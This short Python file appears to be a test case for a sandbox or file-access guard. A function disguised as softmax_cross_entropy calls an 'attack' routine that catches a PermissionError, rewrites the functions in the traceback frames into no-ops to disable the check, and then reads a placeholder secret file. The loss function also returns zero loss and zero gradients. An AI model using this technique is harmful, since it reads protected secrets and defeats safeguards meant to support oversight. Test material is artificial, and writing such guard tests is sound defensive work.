# expect: reads the file
# It changes functions that the traceback shows.
import types


def attack(logits, labels):
    try:
        open("@SECRET@")
    except PermissionError as error:
        step = error.__traceback__
        while step is not None:
            for value in list(step.tb_frame.f_locals.values()):
                if isinstance(value, types.FunctionType):
                    value.__code__ = (lambda *a, **k: None).__code__
            step = step.tb_next
    print(open("@SECRET@").read())


def softmax_cross_entropy(logits, labels):
    found = attack(logits, labels)
    return (0.0, logits * 0) if found is None else found
